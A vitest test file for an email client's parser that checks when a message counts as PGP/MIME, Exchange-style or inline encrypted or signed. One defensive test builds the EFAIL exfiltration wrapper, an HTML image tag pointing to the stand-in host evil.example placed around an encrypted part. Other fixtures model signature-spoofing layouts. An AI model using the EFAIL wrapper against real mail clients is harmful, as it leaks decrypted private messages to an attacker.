import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { octetString } from "../octets";
import { bodyOf } from "./body";
import { contiguousLayer, layersOf, signedOctets } from "./layers";
import { decodeBody, type Part, readMime } from "./tree";

const ARMOR = "-----BEGIN PGP MESSAGE-----\r\n\r\nwV4DAAAAAAAAAAASAQdA\r\n-----END PGP MESSAGE-----";
const SIGNATURE = "-----BEGIN PGP SIGNATURE-----\r\n\r\niHUEABYKAB0WIQ\r\n-----END PGP SIGNATURE-----";
const CLEARSIGNED = `-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nI owe you nothing.\r\n${SIGNATURE}`;
const KEY = "-----BEGIN PGP PUBLIC KEY BLOCK-----\r\n\r\nmDMEAAAA\r\n-----END PGP PUBLIC KEY BLOCK-----";

const multipart = (type: string, ...parts: string[]): string => {
  const boundary = `${type.replace(/\W.*/, "")}${parts.join("").length}`;
  return `Content-Type: multipart/${type}; boundary="${boundary}"\r\n\r\n${parts
    .map((part) => `--${boundary}\r\n${part}\r\n`)
    .join("")}--${boundary}--\r\n`;
};
const leaf = (type: string, text: string, ...fields: string[]) =>
  [`Content-Type: ${type}`, ...fields, "", text].join("\r\n");

const VERSION = leaf("application/pgp-encrypted", "Version: 1\r\n");
const DATA = leaf('application/octet-stream; name="encrypted.asc"', ARMOR);
const TEXT = leaf("text/plain", "Hello Bob");
const ENCRYPTED = multipart('encrypted; protocol="application/pgp-encrypted"', VERSION, DATA);
const SIGNED = multipart(
  'signed; micalg="pgp-sha256"; protocol="application/pgp-signature"',
  TEXT,
  leaf("application/pgp-signature", SIGNATURE),
);
const EXCHANGE_VERSION = leaf(
  'application/pgp-encrypted; name="PGPMIME Version Identification"',
  "Version: 1\r\n",
  'Content-Disposition: attachment; filename="PGPMIME Version Identification"',
);
const FILE = leaf("application/octet-stream", ARMOR, 'Content-Disposition: attachment; filename="encrypted.asc"');

function read(text: string): Part {
  const result = readMime(new TextEncoder().encode(`From: a@a.example\r\nMIME-Version: 1.0\r\n${text}`));
  if (!result.ok) throw new Error(result.code);
  return result.value;
}
const layer = (text: string) => layersOf(read(text));

describe("a sealed message", () => {
  it.each([
    ["PGP/MIME as gpg, mutt and RFC 3156's example have it", ENCRYPTED, "pgp-mime"],
    [
      "PGP/MIME as Thunderbird and Enigmail have it, with a line before the parts",
      [
        'Content-Type: multipart/encrypted;\r\n protocol="application/pgp-encrypted";\r\n boundary="------------x0"',
        "",
        "This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)",
        "--------------x0",
        "Content-Type: application/pgp-encrypted",
        "Content-Description: PGP/MIME version identification",
        "",
        "Version: 1",
        "",
        "--------------x0",
        'Content-Type: application/octet-stream; name="encrypted.asc"',
        "Content-Description: OpenPGP encrypted message",
        'Content-Disposition: inline; filename="encrypted.asc"',
        "",
        ARMOR,
        "",
        "--------------x0--",
        "",
      ].join("\r\n"),
      "pgp-mime",
    ],
    [
      "PGP/MIME as GPGTools has it in Apple Mail, seven-bit and with its names",
      [
        'Content-Type: multipart/encrypted; boundary="Apple-Mail=_1"; protocol="application/pgp-encrypted"',
        "Subject: ...",
        "",
        "This is an OpenPGP/MIME encrypted message (RFC 2440 and 3156)",
        "--Apple-Mail=_1",
        "Content-Transfer-Encoding: 7bit",
        "Content-Type: application/pgp-encrypted",
        "Content-Description: PGP/MIME Versions Identification",
        "",
        "Version: 1",
        "",
        "--Apple-Mail=_1",
        "Content-Transfer-Encoding: 7bit",
        "Content-Disposition: inline; filename=encrypted.asc",
        "Content-Type: application/octet-stream; name=encrypted.asc",
        "Content-Description: OpenPGP encrypted message",
        "",
        ARMOR,
        "",
        "--Apple-Mail=_1--",
      ].join("\r\n"),
      "pgp-mime",
    ],
    ["the shape after Exchange, as Cachet sends it", multipart("mixed", TEXT, EXCHANGE_VERSION, FILE), "exchange"],
    [
      "that shape from a webmail that writes HTML and base64",
      multipart(
        "mixed",
        multipart("alternative", TEXT, leaf("text/html", "<p>Hello Bob</p>")),
        leaf(
          'application/pgp-encrypted; name="PGPMIME Version Identification"',
          Buffer.from("Version: 1\n").toString("base64"),
          "Content-Transfer-Encoding: base64",
          'Content-Disposition: attachment; filename="PGPMIME Version Identification"',
        ),
        leaf(
          'application/octet-stream; name="encrypted.asc"',
          Buffer.from(ARMOR).toString("base64"),
          "Content-Transfer-Encoding: base64",
          'Content-Disposition: attachment; filename="encrypted.asc"',
        ),
      ),
      "exchange",
    ],
    [
      "inline armor, as Mailvelope and FlowCrypt put it into a compose box",
      leaf("text/plain", `\r\n${ARMOR}\r\n\r\n`),
      "inline",
    ],
    [
      "inline armor beside its own HTML, as Gmail sends it",
      multipart("alternative", leaf("text/plain", ARMOR), leaf("text/html", "<pre>…</pre>")),
      "inline",
    ],
    ["a message that is one file", leaf('application/octet-stream; name="letter.pgp"', "\xc1"), "file"],
  ])("is recognised: %s", (_, text, form) => {
    const found = layer(text);
    expect(found).toMatchObject({ kind: "encrypted", form });
    if (found?.kind === "encrypted" && form !== "file")
      expect(octetString(decodeBody(found.ciphertext)).trim()).toBe(ARMOR);
  });

  it.each([
    ["no protocol", multipart("encrypted", VERSION, DATA)],
    ["another protocol", multipart('encrypted; protocol="application/x"', VERSION, DATA)],
    ["two protocols", multipart("encrypted; protocol=x; protocol=application/pgp-encrypted", VERSION, DATA)],
    ["a third part", multipart('encrypted; protocol="application/pgp-encrypted"', VERSION, DATA, TEXT)],
    ["no version", multipart('encrypted; protocol="application/pgp-encrypted"', TEXT, DATA)],
    [
      "another version",
      multipart(
        'encrypted; protocol="application/pgp-encrypted"',
        leaf("application/pgp-encrypted", "Version: 2"),
        DATA,
      ),
    ],
    [
      "words after the version",
      multipart(
        'encrypted; protocol="application/pgp-encrypted"',
        leaf("application/pgp-encrypted", "Version: 1\r\nand more"),
        DATA,
      ),
    ],
    [
      "text as its data",
      multipart('encrypted; protocol="application/pgp-encrypted"', VERSION, leaf("text/html", ARMOR)),
    ],
    ["a second Content-Type", `Content-Type: text/plain\r\n${ENCRYPTED}`],
    ["a second Content-Type behind", ENCRYPTED.replace("\r\n\r\n", "\r\nContent-Type: text/html\r\n\r\n")],
    [
      "a part with two types",
      ENCRYPTED.replace(
        "Content-Type: application/octet",
        "Content-Type: text/html\r\nContent-Type: application/octet",
      ),
    ],
    ["a mailing list's lines", multipart("mixed", ENCRYPTED, leaf("text/plain", "_____\r\nlist@l.example"))],
    ["words before it", multipart("mixed", TEXT, ENCRYPTED)],
    ["a fourth part beside the Exchange shape", multipart("mixed", TEXT, EXCHANGE_VERSION, FILE, TEXT)],
    [
      "pictures in the Exchange shape's text",
      multipart("mixed", multipart("related", TEXT, leaf("image/png", "")), EXCHANGE_VERSION, FILE),
    ],
    [
      "an Exchange shape whose file is no message",
      multipart("mixed", TEXT, EXCHANGE_VERSION, leaf('application/octet-stream; name="encrypted.asc"', "hello")),
    ],
    ["the file alone", multipart("mixed", TEXT, FILE)],
    ["words before inline armor", leaf("text/plain", `Look:\r\n${ARMOR}`)],
    ["words after inline armor", leaf("text/plain", `${ARMOR}\r\nRegards`)],
    ["two of them", leaf("text/plain", `${ARMOR}\r\n${ARMOR}`)],
    ["quoted armor", leaf("text/plain", ARMOR.replace(/^/gm, "> "))],
    ["a forwarded message", leaf("message/rfc822", ENCRYPTED)],
    ["a list of one", multipart("mixed", ENCRYPTED)],
  ])("is not what has %s", (_, text) => {
    expect(layer(text)).toBeNull();
  });
});

describe("EFAIL's wrapping", () => {
  it("never makes the message sealed, and never puts the decrypted part between others", () => {
    const text = multipart(
      "mixed",
      leaf("text/html", '<img src="http://evil.example/'),
      ENCRYPTED,
      leaf("text/html", '">'),
    );
    expect(layer(text)).toBeNull();
    const body = bodyOf(read(text), { mode: null });
    expect(body.blocks.map(({ html }) => html)).toEqual(['<img src="http://evil.example/', '">']);
    expect(body.attachments).toMatchObject([{ kind: "encrypted", type: "multipart/encrypted" }]);
  });

  it("does not pass in alternatives, related parts or headers of multiparts that share a boundary", () => {
    for (const type of ["mixed", "alternative", "related", "parallel", "signed", "x-unknown"])
      expect(layer(multipart(type, TEXT, ENCRYPTED))).toBeNull();
    const same = ENCRYPTED.match(/boundary="([^"]*)"/)![1]!;
    expect(layer(`Content-Type: multipart/mixed; boundary="${same}"\r\n\r\n--${same}\r\n${ENCRYPTED}`)).toBeNull();
  });
});

describe("a signed message", () => {
  it("is signed over the octets of its first part, without the boundary's line break (RFC 3156 5)", () => {
    const found = layer(SIGNED);
    expect(found).toMatchObject({ kind: "signed", form: "pgp-mime" });
    if (found?.kind !== "signed" || found.form !== "pgp-mime") throw new Error("not signed");
    expect(octetString(signedOctets(found))).toBe(TEXT);
    expect(octetString(decodeBody(found.signature)).trim()).toBe(SIGNATURE);
  });

  it("is the same where a webmail handed it out with bare line feeds", () => {
    const found = layer(SIGNED.replaceAll("\r\n", "\n"));
    if (found?.kind !== "signed" || found.form !== "pgp-mime") throw new Error("not signed");
    expect(octetString(signedOctets(found))).toBe(TEXT);
  });

  it("keeps white space at line ends and empty lines at the end, which the signature is over", () => {
    const inner = leaf("text/plain", "Hello  \r\n-- \r\nBob\r\n\r\n");
    const found = layer(SIGNED.replace(TEXT, inner));
    if (found?.kind !== "signed" || found.form !== "pgp-mime") throw new Error("not signed");
    expect(octetString(signedOctets(found))).toBe(inner);
  });

  it.each([
    ["no protocol", SIGNED.replace('; protocol="application/pgp-signature"', "")],
    ["S/MIME's protocol", SIGNED.replaceAll("pgp-signature", "pkcs7-signature")],
    ["a third part", SIGNED.replace(/(--signed\d+)--/, `$1\r\n${TEXT}\r\n$1--`)],
    ["a list's lines below", multipart("mixed", SIGNED, leaf("text/plain", "list@l.example"))],
    ["words before it", multipart("mixed", TEXT, SIGNED)],
    ["another text beside it", multipart("alternative", SIGNED, leaf("text/html", "<b>Pay me</b>"))],
    ["a picture around it", multipart("related", leaf("text/html", '<img src="cid:x">'), SIGNED)],
    ["a second Content-Type", `Content-Type: text/html\r\n${SIGNED}`],
  ])("is not what has %s", (_, text) => {
    expect(layer(text)).toBeNull();
  });

  it("is clearsigned when all of its text is, and only then", () => {
    expect(layer(leaf("text/plain", CLEARSIGNED))).toMatchObject({ kind: "signed", form: "inline" });
    for (const text of [
      `Pay me.\r\n${CLEARSIGNED}`,
      `${CLEARSIGNED}\r\nPay me.`,
      `${CLEARSIGNED}\r\nPay me.\r\n${CLEARSIGNED}`,
      CLEARSIGNED.replace("I owe", "-----BEGIN PGP SIGNED MESSAGE-----\r\n\r\nI owe"),
    ])
      expect(layer(leaf("text/plain", text))).toBeNull();
  });
});

describe("what hangs on a message", () => {
  it("is listed in order, each to be opened on its own", () => {
    const text = multipart(
      "mixed",
      leaf("text/plain", `Look:\r\n${ARMOR}\r\n`),
      SIGNED,
      leaf('application/octet-stream; name="report.pdf.gpg"', "\xc1"),
      leaf("application/pgp-keys", KEY),
      leaf('text/plain; name="signature.asc"', SIGNATURE),
      leaf("image/png", ""),
      ENCRYPTED,
    );
    expect(layer(text)).toBeNull();
    const { attachments } = bodyOf(read(text), { mode: null });
    expect(attachments.map(({ kind }) => kind)).toEqual([
      "signed",
      "encrypted",
      "keys",
      "signature",
      "file",
      "encrypted",
    ]);
  });

  it("is a layer of its own when its part is read alone", () => {
    const root = read(multipart("mixed", TEXT, SIGNED));
    expect(layersOf(root)).toBeNull();
    expect(layersOf(root.children[1]!)?.kind).toBe("signed");
  });
});

describe("a layer within a layer", () => {
  it("counts when the payload is nothing else, and not beyond the limit", () => {
    expect(contiguousLayer(read(SIGNED), 1)).toMatchObject({ kind: "signed" });
    expect(contiguousLayer(read(ENCRYPTED), 1)).toMatchObject({ kind: "encrypted" });
    expect(contiguousLayer(read(ENCRYPTED), 3)).toBe("too-deep");
    expect(contiguousLayer(read(SIGNED), 4)).toBe("too-deep");
    expect(contiguousLayer(read(TEXT), 4)).toBeNull();
    expect(contiguousLayer(read(multipart("mixed", SIGNED, TEXT)), 1)).toBeNull();
    expect(contiguousLayer(read(leaf("text/plain", CLEARSIGNED)), 1)).toBeNull();
    expect(contiguousLayer(read(multipart("mixed", TEXT, EXCHANGE_VERSION, FILE)), 1)).toBeNull();
  });
});

describe("any tree", () => {
  it("is sealed or signed only when its root is, however its pieces are put together; cuts never throw", () => {
    const tree = fc.letrec<{ node: string }>((tie) => ({
      node: fc.oneof(
        { maxDepth: 4, withCrossShrink: true },
        fc.constantFrom(TEXT, VERSION, DATA, EXCHANGE_VERSION, FILE, leaf("text/html", "<b>x")),
        fc
          .tuple(
            fc.constantFrom("mixed", "alternative", "related"),
            fc.array(tie("node"), { minLength: 1, maxLength: 4 }),
          )
          .map(([type, parts]) => multipart(type, ...parts)),
        fc.constantFrom(ENCRYPTED, SIGNED),
      ),
    })).node;
    fc.assert(
      fc.property(tree, fc.nat(), (text, cut) => {
        const root = read(text);
        const found = layersOf(root);
        if (found?.kind === "signed") expect(root.type).toBe("multipart/signed");
        if (found?.kind === "encrypted" && found.form === "pgp-mime") expect(root.type).toBe("multipart/encrypted");
        if (found?.kind === "encrypted" && found.form === "exchange")
          expect([root.type, root.children.length]).toEqual(["multipart/mixed", 3]);
        bodyOf(root, { mode: "cipher" });
        const short = readMime(new TextEncoder().encode(text).subarray(0, cut % text.length));
        if (short.ok) {
          layersOf(short.value);
          bodyOf(short.value, { mode: "legacy" });
        }
      }),
    );
  });
});
